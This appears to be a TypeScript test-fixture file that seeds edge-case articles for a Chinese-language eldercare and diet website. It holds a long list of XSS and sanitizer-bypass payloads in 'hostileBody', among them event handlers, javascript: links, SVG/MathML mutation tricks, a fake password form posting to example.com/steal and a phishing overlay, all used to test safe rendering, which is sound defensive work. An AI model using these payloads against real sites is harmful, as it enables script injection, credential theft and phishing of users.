import type { ContentRow, ContentType } from '../db/rows.ts';
import { table } from './html.ts';

/** 120 code points, the maximum. */
export const longestTitle =
  '一位住在嘉义山边的老先生如何在家人、邻居、家庭医师、营养师与社区药师的陪伴之下，前后用了三年时间，把一日三餐慢慢调整成清淡柔软又不失滋味的样子，并且从不间断地按时回诊服药，最后把这段不算短的路写成一本小册子，送给每一位正在照顾家人的朋友读完';

/** ZWJ sequence, flag, skin tone, keycap. */
export const emojiTitle = '一家人🍲一起吃饭👨‍👩‍👧‍👦：台湾🇹🇼的早晨👵🏽与第1️⃣碗粥❤️‍🩹';

/** Characters outside the BMP and from Extension A. */
const rareTitle = '𠮷野老师与㐀先生的𩸽鱼粥，配一碟𠀋豆腐';

const rtlTitle = '中东的鹰嘴豆泥 حُمُّص 与芝麻酱 טחינה：两种豆子的吃法 (2)';

export const markupTitle = '<b>不是粗体</b> & "引号" <img src=x onerror="window.__hacked=true"> {{ 1 + 1 }} ${x}';

const unbreakableTitle =
  'Antidisestablishmentarianism与Pneumonoultramicroscopicsilicovolcanoconiosis及https://example.com/aaaaaaaaaaaaaaaaaaaa';

const shortestTitle = '粥';

const longestExcerpt = '慢慢吃，好好睡，按时回诊，把疑问带去问医生。'.repeat(14).slice(0, 299) + '。';

export const longestPersonName = '欧阳'.repeat(14) + '（住在花莲县玉里镇的一位不愿意具名的退休小学老师，今年满八十岁）';

export const longestTag = {
  name: '适合咀嚼困难长者与照顾者阅读的低盐低糖高纤维软质饮食入门说明',
  slug: 'a-very-long-slug-for-a-very-long-tag-name-about-soft-lowsalt',
  color: '#6b7d5a',
};

export const hostileSentences: readonly string[] = [
  '这一段是普通的文字，请照常显示。',
  '莲藕切片以后，用清水泡一泡，就不容易变色。',
  '早上喝一碗小米粥，身体会觉得暖和。',
  '这个链接是正常的，可以打开。',
  '山药炖汤，记得戴手套削皮。',
  '表格很宽，页面不应该因此左右晃动。',
  '读到这里，谢谢您的耐心。',
];

const hack = 'window.__hacked=true';
const keep = hostileSentences.map((sentence) => `<p>${sentence}</p>`);

const cells = (row: number, name = ''): string =>
  Array.from({ length: 40 }, (_, column) => `${name}${row}-${column + 1}`).join('|');

/** 40 columns and 24 rows, with a width of its own. */
const wideTable = table(
  [cells(0, '项目'), ...Array.from({ length: 24 }, (_, row) => cells(row + 1))].join('\n'),
).replace('<table>', '<table width="6000" style="width:6000px">');

/** XSS payloads between sentences. A payload that runs sets `window.__hacked` or a `HACKED` document title. */
export const hostileBody: string = [
  keep[0],
  `<script>${hack}</script>`,
  `<script src="https://example.com/evil.js"></script>`,
  `<SCRIPT/x>document.title='HACKED script'</SCRIPT>`,
  `<img src="x" onerror="${hack}" alt="坏掉的图片">`,
  `<img src=x onerror=&#119;indow.__hacked=true//>`,
  `<img/src="x"/onerror=${hack}>`,
  `<p onclick="${hack}" onmouseover="${hack}" onpointerenter="${hack}">${hostileSentences[1]}</p>`,
  `<details open ontoggle="${hack}"><summary>展开</summary>内容</details>`,
  `<input autofocus onfocus="${hack}"><select autofocus onfocus="${hack}"></select><textarea autofocus onfocus="${hack}"></textarea>`,
  `<video controls><source src="x" onerror="${hack}"></video><audio src="x" onerror="${hack}"></audio>`,
  `<marquee onstart="${hack}">跑马灯</marquee><body onload="${hack}">`,
  `<div style="animation:x 1s" onanimationstart="${hack}" onanimationend="${hack}"></div>`,
  `<p><a href="javascript:${hack}">脚本链接</a> <a href="java&#9;script:${hack}">带制表符的链接</a> <a href=" &#1;JaVaScRiPt:${hack}">带控制字符的链接</a></p>`,
  `<p><a href="data:text/html,<script>document.title='HACKED data'</script>">数据链接</a> <a href="vbscript:msgbox(1)">旧式链接</a> <a href="//example.com/phish">没有协议的链接</a></p>`,
  `<p><a href="https://example.com/good">${hostileSentences[3]}</a> <a href="https://example.com/new" target="_blank" rel="opener">新窗口，没有保护</a> <a href="/admin/user" target="_top">站内链接</a></p>`,
  `<img src="javascript:${hack}" srcset="https://example.com/track.png 2x" alt="">`,
  `<a href="https://example.com/ping" ping="https://example.com/spy" download="x.exe">下载</a>`,
  `<svg onload="${hack}" width="20" height="20"><script>${hack}</script><a xlink:href="javascript:${hack}"><text y="15">图</text></a></svg>`,
  `<svg><animate onbegin="${hack}" attributeName="x" dur="1s"></animate><set attributeName="href" to="javascript:${hack}"></set><use href="data:image/svg+xml;base64,PHN2Zy8+#x"></use></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.__hacked=true</script>"></iframe></foreignObject></svg>`,
  `<math><maction actiontype="statusline#http://example.com" xlink:href="javascript:${hack}">点这里</maction></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${hack}&gt;"></mglyph></table></mtext></math>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${hack}>"></a></style></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${hack}>"></p></noscript>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${hack}></style></mglyph></form></mtext></math>`,
  `<template><img src=x onerror=${hack}></template><xmp><img src=x onerror=${hack}></xmp>`,
  `<!--><img src=x onerror=${hack}>--><!--[if gte IE 4]><script>${hack}</script><![endif]-->`,
  keep[2],
  `<iframe src="javascript:parent.__hacked=true"></iframe><iframe srcdoc="&lt;script&gt;parent.document.title='HACKED frame'&lt;/script&gt;"></iframe>`,
  `<iframe src="https://example.com/embed" style="position:fixed;inset:0;width:100vw;height:100vh;border:0"></iframe>`,
  `<object data="javascript:${hack}" type="text/html"></object><embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.__hacked=true'/>">`,
  `<form action="https://example.com/steal" method="post"><label>请重新输入密码 <input type="password" name="password"></label><button formaction="javascript:${hack}">登录</button></form>`,
  `<base href="https://example.com/evil/"><meta http-equiv="refresh" content="0;url=javascript:${hack}"><link rel="stylesheet" href="https://example.com/evil.css"><meta name="referrer" content="unsafe-url">`,
  `<style>body{display:none!important}*{background:url(https://example.com/track)}@import "https://example.com/evil.css";</style>`,
  `<div style="position:fixed;inset:0;z-index:99999;background:#fff;opacity:.99"><a href="https://example.com/phish" style="display:block;height:100%">您的登录已过期，请点这里</a></div>`,
  `<p style="background:url('javascript:${hack}');width:expression(${hack});behavior:url(#x);-moz-binding:url(#x)">${hostileSentences[4]}</p>`,
  `<p style="font-size:400px;margin:-9999px;color:#fff">看不见的字</p>`,
  `<img name="getElementById" alt=""><img name="cookie" alt=""><form id="document" name="body"><input name="attributes"><input name="childNodes"><input id="location" name="querySelector"></form>`,
  `<a id="root" href="https://example.com/"></a><a id="__hacked_config" name="url" href="https://example.com/"></a><div id="app" class="mantine-Modal-overlay" data-portal="true"></div>`,
  `<custom-element is="x" slot="y" part="z">自定义元素</custom-element><button popovertarget="root" popovertargetaction="hide" command="close" commandfor="root">按钮</button>`,
  keep[5],
  wideTable,
  `<pre>${'很长的一行没有空格'.repeat(30)}</pre>`,
  `<img src="/storage/pictures/3.webp" width="99999" height="99999" alt="尺寸夸张的图片">`,
  `${'<blockquote>'.repeat(30)}<p>三十层引用里的一句话。</p>${'</blockquote>'.repeat(30)}`,
  keep[6],
  `</div></div></article></main><p title='"><img src=x onerror=${hack}>'>标签没有配对，页面仍然完整。</p><p><b><i>没有关闭的粗体`,
].join('\n');

export const hostileTitle = '一篇来历不明的投稿，请留意正文';

type EdgeCase = Partial<Pick<ContentRow, 'title' | 'excerpt' | 'body' | 'image_id' | 'tag_ids'>>;

/** By id. They are the oldest of their lists, so that none is on the home page or the first two pages of a list. */
export const edgeCases: { readonly [T in ContentType]?: Record<number, EdgeCase> } = {
  news: {
    53: { title: longestTitle, excerpt: longestExcerpt },
    50: { title: emojiTitle },
    47: { title: hostileTitle, body: hostileBody },
    44: { title: markupTitle },
    41: { title: unbreakableTitle },
    40: { title: shortestTitle, excerpt: null, image_id: null, tag_ids: [], body: '<p>粥。</p>' },
  },
  highlight: { 53: { image_id: null, excerpt: null } },
  knowhow: {
    53: { title: longestTitle, excerpt: longestExcerpt },
    50: { image_id: null },
  },
  photo: { 53: { title: emojiTitle }, 50: { image_id: null } },
  reflection: { 53: {}, 50: { image_id: null }, 47: { title: rareTitle } },
  symptom: { 50: { image_id: null, excerpt: null } },
  witness: { 53: { image_id: null }, 47: { title: rtlTitle } },
};

/** Names of people by the id of their reflection. */
export const longNames: Record<number, string> = { 53: longestPersonName };

/** Images per album id. */
export const albumSizes: Record<number, number> = { 53: 30, 56: 1 };
